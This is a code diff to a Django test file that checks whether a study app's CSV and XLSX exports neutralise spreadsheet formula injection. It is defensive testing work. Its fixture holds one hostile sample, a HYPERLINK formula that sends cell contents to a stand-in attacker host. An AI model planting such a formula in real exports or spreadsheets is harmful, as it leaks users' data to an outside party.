@@ -10,6 +10,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from .channels import csv_rows
 from .factories import add_responses, answers, make_round, make_study
 
 EVIL = '=HYPERLINK("https://angriber.example/?d="&A1,"Klik her")'
@@ -29,7 +30,7 @@ def hostile_study(db):
 
 
 def _csv_groups(body: bytes) -> set[str]:
-    return {r["group"] for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))}
+    return {r["group"] for r in csv_rows(body.decode("utf-8-sig"))}
 
 
 def _no_formula(content: bytes) -> list[str]:
@@ -53,7 +54,7 @@ def test_csv_exports_neutralise_formulas(hostile_study, board_client, view):
         assert "'" + evil in groups, groups
         assert evil not in groups
     for line in body.decode("utf-8-sig").splitlines()[1:]:
-        for field in next(csv.reader([line])):
+        for field in next(csv.reader([line], delimiter=";")):
             assert not field.startswith(("=", "+", "@")), field
 
 
@@ -66,6 +67,6 @@ def test_xlsx_exports_keep_the_text_and_never_a_formula(hostile_study, board_cli
 
 def test_negative_numbers_stay_numbers_in_the_change_csv(hostile_study, board_client):
     body = board_client.get(reverse("analysis:change_export", args=[hostile_study.pk, "csv"]))
-    rows = list(csv.DictReader(io.StringIO(body.content.decode("utf-8-sig"))))
+    rows = csv_rows(body.content.decode("utf-8-sig"))
     deltas = [r["delta"] for r in rows if r["delta"]]
     assert deltas and all(float(d) == float(d) for d in deltas)
